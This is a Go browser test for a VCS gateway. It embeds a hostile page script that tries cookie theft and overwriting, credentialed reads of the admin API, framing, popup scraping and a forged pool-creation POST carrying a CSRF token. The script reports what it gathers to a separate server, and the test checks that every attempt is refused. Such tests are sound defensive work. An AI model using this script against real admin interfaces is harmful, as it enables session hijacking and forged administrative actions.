package browser_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"vcsagent/test/stack"
)

// attack is a page's script that tries what it can against the admin listener,
// with the cookie of whoever is signed in, and tells what came of it.
const attack = `<!doctype html><title>quiet</title><p>A page of the VCS's<script>
document.title = "ran"
const admin = %q, home = %q, form = {name: "evil", description: "", vendor: "gitlab", endpoint: "", csrf: %q}
const got = {ran: true}
const said = (promise) => promise.then(v => "" + v, e => "refused: " + e.name)
;(async () => {
	got.cookie = document.cookie
	document.cookie = "__Host-vcs-gateway=mine; Secure; Path=/"
	got.read = await said(fetch(admin + "/", {credentials: "include"}).then(r => r.text()))
	got.api = await said(fetch(admin + "/api/v1/pools", {credentials: "include"}).then(r => r.text()))
	await said(fetch(admin + "/new-pool", {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams(form)}))
	const frame = document.createElement("iframe")
	frame.src = admin + "/"
	await new Promise(done => { frame.onload = done; document.body.append(frame) })
	got.frame = await said((async () => frame.contentWindow.document.body.innerText)())
	const popup = open(admin + "/keys")
	got.popup = await said((async () => {
		for (let i = 0; i < 200; i++) {
			if (!popup) return "there is none"
			if (popup.closed) return "cut off"
			try { if (popup.location.href !== "about:blank") return popup.document.body.innerText } catch (e) { if (!popup.closed && i > 100) throw e }
			await new Promise(done => setTimeout(done, 20))
		}
		return "nothing to see"
	})())
	const posted = document.createElement("form")
	posted.method = "post"
	posted.action = admin + "/new-pool"
	for (const [name, value] of Object.entries(form)) posted.append(Object.assign(document.createElement("input"), {name, value}))
	document.body.append(posted)
	await fetch(home + "/told", {method: "POST", mode: "no-cors", body: JSON.stringify(got)})
	posted.submit()
})()
</script>`

// hostileVCS answers every request with a page, and remembers the headers.
type hostileVCS struct {
	mu   sync.Mutex
	page string
	seen []http.Header
}

func (h *hostileVCS) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.seen = append(h.seen, r.Header.Clone())
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Add("Set-Cookie", "__Host-vcs-gateway=stolen; Path=/; Secure")
	w.Header().Set("Content-Security-Policy", "default-src *; script-src * 'unsafe-inline'; frame-ancestors *")
	w.Header().Set("Clear-Site-Data", `"cookies"`)
	w.Header().Set("Service-Worker-Allowed", "/")
	w.Header().Set("Access-Control-Allow-Origin", "*")
	fmt.Fprint(w, h.page)
}

func (h *hostileVCS) requests() []http.Header {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.Clone(h.seen)
}

// What a VCS answers on the callers' listener can't act on the admin listener,
// though both have the same host, whose cookies they share: the pages' cookie
// goes along and stops at the gateway, and no script runs. A page on another port
// of the host that does run its script can't do anything either.
func TestHostileVCS(t *testing.T) {
	vcs := &hostileVCS{}
	s := newScene(t, stack.Options{VCS: vcs})
	s.StartAgent(t)
	told := make(chan map[string]any, 4)
	var attackPage string
	stranger := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/told" {
			var got map[string]any
			if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
				t.Errorf("what the script told: %v", err)
			}
			told <- got
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, attackPage)
	}))
	defer stranger.Close()

	c := startChromium(t)
	p := c.tab(s.origin())
	s.signIn(p)
	p.open("/new-pool")
	// Even one who knew the form's token could do nothing with it.
	formToken := must[string](p, `document.querySelector("main input[name=csrf]").value`)
	attackPage = fmt.Sprintf(attack, s.origin(), stranger.URL, formToken)
	vcs.mu.Lock()
	vcs.page = attackPage
	vcs.mu.Unlock()

	hostileThroughGateway(t, s, c, vcs)
	p.open("/keys") // still signed in: the VCS's Set-Cookie and Clear-Site-Data went nowhere
	p.arrive("/keys")
	hostileNeighbour(t, s, c, stranger.URL, told)

	p.open("/")
	p.see("Pools", stack.Pool)
	if p.shows("evil") {
		t.Error("a pool was made")
	}
	if pools := s.Gateway.Command(t, "pool", "list"); strings.Contains(pools, "evil") {
		t.Errorf("a pool was made:\n%s", pools)
	}
}

// hostileThroughGateway opens the VCS's page on the callers' listener.
func hostileThroughGateway(t *testing.T, s *scene, c *chromium, vcs *hostileVCS) {
	t.Helper()
	p, n := c.strangeTab()
	cookie := p.addKey("http://"+s.Gateway.HTTP, s.Key)
	p.goTo(s.URL("/api/v4/user"))
	p.see("A page of the VCS's")
	eventually(t, "the browser's word that no script may run", func() bool { return n.said("Blocked script execution", "sandbox") })
	if title := must[string](p, "document.title"); title != "quiet" {
		t.Errorf("the VCS's script ran")
	}
	if sent := receive(t, "cookies of the browser's", cookie); !strings.Contains(sent, "__Host-vcs-gateway=") {
		t.Errorf("the browser sent the callers' listener the cookies %q, none of the pages': this test shows nothing", sent)
	}
	seen := vcs.requests()
	if len(seen) == 0 {
		t.Error("no request reached the VCS")
	}
	for _, h := range seen {
		for _, name := range []string{"Cookie", "Vcs-Gateway-Key"} {
			if got, ok := h[name]; ok {
				t.Errorf("the VCS got %s: %q", name, got)
			}
		}
	}
}

// hostileNeighbour opens a page with the same script on another port of the
// host, where nothing keeps it from running.
func hostileNeighbour(t *testing.T, s *scene, c *chromium, url string, told <-chan map[string]any) {
	t.Helper()
	p, n := c.strangeTab()
	p.goTo(url + "/")
	got := receive(t, "what the script told", told)
	for what, want := range map[string]string{
		"cookie": "", "read": "refused: TypeError", "api": "refused: TypeError", "frame": "refused: SecurityError", "popup": "cut off",
	} {
		if said := got[what]; said != want {
			t.Errorf("%s: the script got %q, want %q", what, said, want)
		}
	}
	eventually(t, "the browser's word that the pages may not be framed", func() bool { return n.said("frame-ancestors", s.origin()) })
	p.see("sent by another site") // the script's last act was to post a form
	// A script and a form posted.
	post := "POST " + s.origin() + "/new-pool"
	if got, want := n.to(post), []string{post + " 403", post + " 403"}; !slices.Equal(got, want) {
		t.Errorf("the posts were answered %q, want %q", got, want)
	}
}
